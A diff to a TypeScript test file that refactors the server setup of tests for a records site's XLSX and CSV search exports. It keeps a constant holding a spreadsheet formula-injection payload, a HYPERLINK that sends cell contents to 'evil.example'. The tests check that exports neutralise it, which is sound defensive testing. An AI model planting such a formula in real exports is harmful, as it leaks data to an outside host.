@@ -1,13 +1,11 @@
 import { Readable } from 'node:stream';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import type { FastifyInstance } from 'fastify';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { COMPANY_ROLES } from '../src/domain/enumerations.ts';
 import type { StoredRecord } from '../src/domain/record.ts';
-import type { RecordStore } from '../src/store/store.ts';
-import { buildServer } from '../src/web/server.tsx';
 import { aRecord } from './support/records.ts';
+import { serveFixtures } from './support/served.ts';
 import { STORE_BACKENDS } from './support/stores.ts';
 
 /**
@@ -19,7 +17,6 @@ import { STORE_BACKENDS } from './support/stores.ts';
 const SITE = 'https://bhr.example.org';
 const MARKER = 'SHEET-CONFIDENTIAL-5120';
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"details")';
-const author = { userId: null, name: 'test' };
 
 const RECORDS = {
   cyrillic: aRecord({
@@ -107,24 +104,10 @@ async function csvThroughSpreadsheet(text: string): Promise<string[][]> {
 }
 
 describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
-  let app: FastifyInstance;
-  let store: RecordStore;
-  let dispose: () => Promise<void>;
-  const saved: Record<string, StoredRecord> = {};
-
-  beforeAll(async () => {
-    ({ store, dispose } = await backend.create());
-    for (const [name, record] of Object.entries(RECORDS))
-      saved[name] = await store.saveRecord({ record, author, action: 'create' });
-    app = await buildServer(store, { publicUrl: SITE });
-  });
-  afterAll(async () => {
-    await app.close();
-    await dispose();
-  });
+  const served = serveFixtures(backend, RECORDS, { publicUrl: SITE });
 
   const download = async (url: string) => {
-    const response = await app.inject({ url, headers: { host: 'evil.example' } });
+    const response = await served.app.inject({ url, headers: { host: 'evil.example' } });
     expect(response.statusCode, url).toBe(200);
     return response;
   };
@@ -149,8 +132,8 @@ describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
   it('keeps Cyrillic, Chinese and Arabic intact, with labels, names and each record’s URL', async () => {
     const { rows } = await workbookRows((await download('/search.xlsx')).rawPayload);
     const byId = new Map(rows.map((row) => [row.id, row]));
-    expect(byId.get(saved.cyrillic!.id)).toMatchObject({
-      url: `${SITE}/records/${saved.cyrillic!.slug}`,
+    expect(byId.get(served.saved.cyrillic!.id)).toMatchObject({
+      url: `${SITE}/records/${served.saved.cyrillic!.slug}`,
       locationCountry: 'RU',
       locationCountryName: 'Russia',
       locationCity: 'Москва',
@@ -166,13 +149,13 @@ describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
       affectedGroupSector: 'Manufacturing',
       affectedTotal: 120,
     });
-    expect(byId.get(saved.chinese!.id)).toMatchObject({
+    expect(byId.get(served.saved.chinese!.id)).toMatchObject({
       title: '深圳电子厂工人被拖欠工资',
       locationCountryName: 'China',
       Supplier: '富士康科技集团',
       Buyer: 'Example Phones Inc\nOther Phones Ltd',
     });
-    expect(byId.get(saved.arabic!.id)).toMatchObject({
+    expect(byId.get(served.saved.arabic!.id)).toMatchObject({
       summary: 'عمال البناء في الدوحة لم يتقاضوا أجورهم',
       locationCity: 'الدوحة',
       Contractor: 'شركة الخليج للمقاولات',
@@ -181,7 +164,7 @@ describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
 
   it('writes a formula-like title as a string cell, never as a formula, and counts as numbers', async () => {
     const { rows, types } = await workbookRows((await download('/search.xlsx')).rawPayload);
-    const index = rows.findIndex((row) => row.id === saved.arabic!.id);
+    const index = rows.findIndex((row) => row.id === served.saved.arabic!.id);
     expect(rows[index]!.title).toBe(FORMULA);
     expect(types.get(`${index + 2}:title`)).toBe(ExcelJS.ValueType.String);
     expect(types.get(`${index + 2}:affectedTotal`)).toBe(ExcelJS.ValueType.Number);
@@ -210,7 +193,7 @@ describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
       rows.map((row) => header.map((name) => String(row[name]))),
     );
     const parsed = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
-    expect(parsed.find((row) => row.id === saved.arabic!.id)!.title).toBe(`'${FORMULA}`);
+    expect(parsed.find((row) => row.id === served.saved.arabic!.id)!.title).toBe(`'${FORMULA}`);
   });
 
   it('honours the search’s filters: the rows are the records the search finds', async () => {
@@ -220,7 +203,7 @@ describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
       'q=%D0%B7%D0%B0%D1%80%D0%BF%D0%BB%D0%B0%D1%82%D1%8B',
       'country=ZW',
     ]) {
-      const found = (await app.inject(`/api/v1/records?${search}&pageSize=100`)).json()
+      const found = (await served.app.inject(`/api/v1/records?${search}&pageSize=100`)).json()
         .data as StoredRecord[];
       const { rows } = await workbookRows((await download(`/search.xlsx?${search}`)).rawPayload);
       const csv = parse((await download(`/search.csv?${search}`)).body, { columns: true, bom: true }) as {
@@ -234,7 +217,7 @@ describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
 
   it('lists the rows in the search’s sort order, as the search pages do', async () => {
     for (const search of ['sort=oldest', 'sort=newest', 'q=wages', 'q=wages&sort=oldest']) {
-      const found = (await app.inject(`/api/v1/records?${search}&pageSize=100`)).json()
+      const found = (await served.app.inject(`/api/v1/records?${search}&pageSize=100`)).json()
         .data as StoredRecord[];
       const ids = found.map((record) => record.id);
       expect(ids.length, search).toBeGreaterThan(0);
@@ -257,17 +240,21 @@ describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
       expect(ndjson, search).toEqual(ids);
     }
     const oldest = (await workbookRows((await download('/search.xlsx?sort=oldest')).rawPayload)).rows;
-    expect(oldest.map((row) => row.id)).toEqual([saved.arabic!.id, saved.chinese!.id, saved.cyrillic!.id]);
+    expect(oldest.map((row) => row.id)).toEqual([
+      served.saved.arabic!.id,
+      served.saved.chinese!.id,
+      served.saved.cyrillic!.id,
+    ]);
   });
 
   it('refuses a bad filter with a 400 that says what was wrong', async () => {
-    const response = await app.inject('/search.xlsx?country=Atlantis');
+    const response = await served.app.inject('/search.xlsx?country=Atlantis');
     expect(response.statusCode).toBe(400);
     expect(response.body).toContain('ISO 3166-1 alpha-2');
   });
 
   it('is linked from the search page next to the CSV', async () => {
-    const page = (await app.inject('/search?country=CN')).body;
+    const page = (await served.app.inject('/search?country=CN')).body;
     expect(page).toMatch(/href="\/search\.csv\?country=CN"[^]*href="\/search\.xlsx\?country=CN"/);
   });
 });
